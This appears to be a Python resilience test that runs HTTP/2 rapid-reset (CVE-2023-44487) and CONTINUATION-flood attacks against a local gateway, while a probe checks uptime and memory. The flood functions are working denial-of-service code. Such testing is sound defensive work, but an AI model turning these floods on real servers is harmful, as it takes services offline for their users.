"""HTTP/2 abuse against graygate's h2c listener, with a well-behaved client alongside.

    python h2_floods.py GATEWAY_PORT GATEWAY_PID

rapid-reset   20 000 HEADERS each followed at once by RST_STREAM (CVE-2023-44487):
              the server must answer with GOAWAY or close, and keep serving others.
continuation  one HEADERS without END_HEADERS, then CONTINUATION frames until the server
              gives up (CVE-2024-27316 class): memory stays bounded, others are served.
For each attack a parallel HTTP/1.1 probe must get 200s throughout, and the gateway's RSS
must grow by less than 64 MiB. Prints "h2_floods: N passed, M failed"; exits 1 on failure.
"""
import socket
import sys
import threading
import time
import urllib.request

import h2.config
import h2.connection
import h2.events
import h2.exceptions

PORT, PID = int(sys.argv[1]), int(sys.argv[2])
PATH = "/hello-prod"


def rss_kib():
    with open(f"/proc/{PID}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


class Probe(threading.Thread):
    """Asks every 50 ms over HTTP/1.1; records failures."""

    def __init__(self):
        super().__init__(daemon=True)
        self.stop, self.ok, self.failed = False, 0, 0

    def run(self):
        while not self.stop:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{PORT}{PATH}", timeout=5) as response:
                    response.read()
                    self.ok += 1 if response.status == 200 else 0
                    self.failed += 0 if response.status == 200 else 1
            except Exception:  # noqa: BLE001 (any failure counts)
                self.failed += 1
            time.sleep(0.05)


def connect():
    sock = socket.create_connection(("127.0.0.1", PORT), timeout=10)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def drain(sock, conn, seconds):
    """Reads until the server closes or `seconds` pass; returns what it saw."""
    seen = {"goaway": None, "closed": False, "responses": 0}
    sock.settimeout(0.2)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            seen["closed"] = True
            break
        if not data:
            seen["closed"] = True
            break
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            seen["closed"] = True
            break
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                seen["goaway"] = event.error_code
            elif isinstance(event, h2.events.ResponseReceived):
                seen["responses"] += 1
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            seen["closed"] = True
            break
    return seen


def headers(stream_id):
    return [(":method", "GET"), (":scheme", "http"), (":authority", f"127.0.0.1:{PORT}"), (":path", PATH)]


def rapid_reset():
    sock, conn = connect()
    sent = 0
    try:
        for i in range(20_000):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, headers(stream_id), end_stream=True)
            conn.reset_stream(stream_id)
            sent += 1
            if i % 100 == 0:
                sock.sendall(conn.data_to_send())
        sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass  # the server hung up mid-flood: that is a defence
    seen = drain(sock, conn, 5)
    sock.close()
    stopped = seen["goaway"] is not None or seen["closed"]
    return stopped, f"sent {sent} HEADERS+RST, goaway={seen['goaway']}, closed={seen['closed']}"


def continuation_flood():
    sock, conn = connect()
    stream_id = conn.get_next_available_stream_id()
    # A HEADERS frame without END_HEADERS (flags 0x1 END_STREAM only), then CONTINUATION
    # frames of junk literal headers without END_HEADERS, written raw.
    block = b"\x40\x0ax-junk-hdr\x8f" + b"a" * 15  # literal header, new name, 15-byte value
    frame = lambda kind, flags, payload: len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload  # noqa: E731
    sent = 0
    try:
        sock.sendall(frame(0x1, 0x1, b"\x82\x86\x84" + block))  # :method GET, :scheme http, :path /
        chunk = block * 1000
        for _ in range(2000):
            sock.sendall(frame(0x9, 0x0, chunk))
            sent += len(chunk)
    except OSError:
        pass  # the server hung up: that is a defence
    seen = drain(sock, conn, 3)
    sock.close()
    return True, f"sent {sent // 1024} KiB of CONTINUATION before the server hung up (closed={seen['closed']}, goaway={seen['goaway']})"


def main():
    passed = failed = 0
    for name, attack in (("rapid-reset", rapid_reset), ("continuation", continuation_flood)):
        probe = Probe()
        before = rss_kib()
        probe.start()
        time.sleep(0.3)
        stopped, detail = attack()
        time.sleep(0.5)
        probe.stop = True
        probe.join()
        grown = (rss_kib() - before) // 1024
        ok = stopped and probe.failed == 0 and probe.ok > 0 and grown < 64
        print(f"[h2_floods] {'PASS' if ok else 'FAIL'} {name}: {detail}; probe {probe.ok} ok / {probe.failed} failed; RSS +{grown} MiB")
        passed, failed = (passed + 1, failed) if ok else (passed, failed + 1)
    print(f"h2_floods: {passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
